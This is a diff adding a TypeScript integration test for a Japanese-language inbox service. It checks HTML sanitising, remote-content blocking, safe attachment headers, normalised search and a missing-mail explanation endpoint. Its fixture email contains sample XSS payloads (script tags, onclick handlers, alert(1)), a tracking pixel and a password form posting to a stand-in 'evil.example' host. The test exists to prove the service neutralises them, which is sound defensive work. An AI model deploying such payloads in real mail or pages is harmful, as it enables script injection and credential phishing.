@@ -1,0 +1,156 @@
+import { findDovecot, type LocalDovecot, startLocalDovecot } from '@libs/local-dovecot';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type ApiClient } from '../support/api-client.js';
+import {
+  allMails,
+  connectAccount,
+  importCompleted,
+  type ListedMail,
+  mailsAreHere,
+  registerImapServer,
+  saveDetails,
+} from '../support/mailbox-steps.js';
+import { TestService } from '../support/service.js';
+
+const at = (day: number): Date => new Date(Date.UTC(2026, 10, day, 3));
+/** One red pixel. */
+const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';
+const lines = (...all: string[]): Buffer => Buffer.from(all.join('\r\n'));
+
+const tricky = lines(
+  'From: =?UTF-8?B?5L2Q6Jek?= <sato@customer.example>',
+  'To: taro@sample.example',
+  'Message-ID: <tricky@customer.example>',
+  'Date: Tue, 03 Nov 2026 12:00:00 +0900',
+  'Subject: tricky',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/related; boundary=b',
+  '',
+  '--b',
+  'Content-Type: text/html; charset=UTF-8',
+  '',
+  '<p onclick="steal()">お世話になっております</p><script>steal()</script>',
+  '<img src="cid:logo@customer"><img src="https://tracker.example/open.gif?taro">',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '--b',
+  'Content-Type: text/html; name="=?UTF-8?B?6KuL5rGC5pu4?=.html"',
+  'Content-Disposition: attachment',
+  '',
+  '<script>alert(1)</script>',
+  '--b',
+  'Content-Type: image/png',
+  'Content-ID: <logo@customer>',
+  'Content-Transfer-Encoding: base64',
+  '',
+  PIXEL,
+  '--b--',
+  '',
+);
+const mail = (name: string, subject: string, text: string): Buffer =>
+  lines(
+    `From: ${name} <${name}@customer.example>`,
+    `Message-ID: <${name}@customer.example>`,
+    'Date: Wed, 04 Nov 2026 12:00:00 +0900',
+    `Subject: =?UTF-8?B?${Buffer.from(subject).toString('base64')}?=`,
+    'Content-Type: text/plain; charset=UTF-8',
+    'Content-Transfer-Encoding: 8bit',
+    '',
+    text,
+    '',
+  );
+
+describe.skipIf(findDovecot() === null)('reading and finding mail (skipped where Dovecot is not installed)', () => {
+  let service: TestService;
+  let dovecot: LocalDovecot;
+  let taro: ApiClient;
+  let mails: Map<string, ListedMail>;
+
+  const read = async (subject: string, query = '') =>
+    (await taro.get(`/inbox/messages/${mails.get(subject)!.id}${query}`)).body;
+  const find = async (q: string): Promise<string[]> =>
+    (await allMails(taro, `scope=mine&q=${encodeURIComponent(q)}`)).map(({ subject }) => subject).sort();
+  const absence = async (query: string) => (await taro.get(`/inbox/absence?${query}`)).body;
+
+  beforeAll(async () => {
+    dovecot = await startLocalDovecot({ users: [{ name: 'taro', password: 'secret' }] });
+    dovecot.deliver('taro', tricky, { internalDate: at(3) });
+    dovecot.deliver('taro', mail('suzuki', '①サンプル㈱の面談〜日程', 'ﾒﾝﾀﾞﾝはABC会議室です'), { internalDate: at(4) });
+    dovecot.deliver('taro', mail('tanaka', 'さんぷる請求書', '100% *重要* (最終版)'), { internalDate: at(5) });
+    service = await TestService.start();
+    taro = await service.as({ userId: 'taro', email: 'taro@sample.example' });
+    const admin = await service.as({ userId: 'hanako', roles: ['admin'] });
+    await connectAccount(taro, await registerImapServer(admin, dovecot), 'taro', 'secret');
+    await saveDetails(taro, '2026-11-02', true);
+    await importCompleted(taro);
+    mails = new Map((await mailsAreHere(taro, 3)).map((one) => [one.subject, one]));
+  }, 60_000);
+
+  afterAll(async () => {
+    await service?.remove();
+    await dovecot?.stop();
+  });
+
+  it('shows HTML without script, form or remote load, with the images that the mail brings', async () => {
+    const { html, htmlPolicy, blockedRemote, from } = await read('tricky');
+    expect(from).toEqual({ name: '佐藤', address: 'sato@customer.example' });
+    expect(html).toContain('お世話になっております');
+    expect(html).toContain(`src="data:image/png;base64,${PIXEL}"`);
+    expect(html).not.toMatch(/script|onclick|form|input|tracker/i);
+    expect(blockedRemote).toBe(1);
+    expect(htmlPolicy).toMatch(/^default-src 'none'; img-src data:;/);
+    expect(htmlPolicy).toContain('sandbox');
+  });
+
+  it('loads what lies elsewhere only when asked to', async () => {
+    const { html, htmlPolicy, blockedRemote } = await read('tricky', '?remoteContent=allow');
+    expect(html).toContain('https://tracker.example/open.gif?taro');
+    expect([blockedRemote, htmlPolicy.includes('img-src data: https: http:')]).toEqual([0, true]);
+    expect(html).not.toMatch(/script|onclick|form/i);
+  });
+
+  it('hands attachments out to be saved and never to be run', async () => {
+    const { id, attachments } = await read('tricky');
+    const [page] = attachments.filter(({ inline }: { inline: boolean }) => !inline);
+    expect(page.name).toBe('請求書.html');
+    const { headers, bytes } = await taro.bytes(`/inbox/messages/${id}/attachments/${page.index}`);
+    expect(bytes.toString()).toContain('<script>alert(1)</script>');
+    expect(headers.get('content-type')).toBe('application/octet-stream');
+    expect(headers.get('content-disposition')).toContain(
+      `attachment; filename="___.html"; filename*=UTF-8''${encodeURIComponent('請求書.html')}`,
+    );
+    expect(headers.get('x-content-type-options')).toBe('nosniff');
+    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+  });
+
+  it('finds Japanese whatever its letters look like, and takes signs for what they are', async () => {
+    expect(await find('サンプル')).toEqual(['①サンプル㈱の面談〜日程', 'さんぷる請求書']);
+    expect(await find('ｻﾝﾌﾟﾙ')).toHaveLength(2);
+    expect(await find('面談～日程')).toEqual(['①サンプル㈱の面談〜日程']);
+    expect(await find('(株)')).toEqual(['①サンプル㈱の面談〜日程']);
+    expect(await find('めんだん ａｂｃ')).toEqual(['①サンプル㈱の面談〜日程']);
+    expect(await find('100% *重要*')).toEqual(['さんぷる請求書']);
+    expect(await find('.*')).toEqual([]);
+    expect(await find('TANAKA@customer')).toEqual(['さんぷる請求書']);
+    expect(await find('面')).toEqual(['①サンプル㈱の面談〜日程']);
+  });
+
+  it('explains why a mail is not here', async () => {
+    expect(await absence('messageId=tricky@customer.example')).toMatchObject({
+      reason: 'here',
+      messageIds: [mails.get('tricky')!.id],
+    });
+    expect(await absence('from=SATO@customer&date=2026-11-03')).toMatchObject({ reason: 'here' });
+    expect(await absence('from=sato@customer.example&date=2026-11-01')).toMatchObject({ reason: 'before_import_day' });
+    expect(await absence('from=nobody@customer.example&date=2026-11-10')).toMatchObject({ reason: 'not_in_inbox' });
+    const english = await taro.get('/inbox/absence?messageId=never-seen', { headers: { 'accept-language': 'en' } });
+    expect(english.body.reason).toBe('not_in_inbox');
+    expect(english.body.detail).toContain('another mail program');
+    expect(await absence('from=sato@customer.example')).toMatchObject({ status: 422 });
+
+    const jiro = await service.as({ userId: 'jiro', email: 'jiro@sample.example' });
+    expect((await jiro.get('/inbox/absence?messageId=tricky@customer.example')).body).toMatchObject({
+      reason: 'mailbox_not_connected',
+      messageIds: [],
+    });
+  });
+});
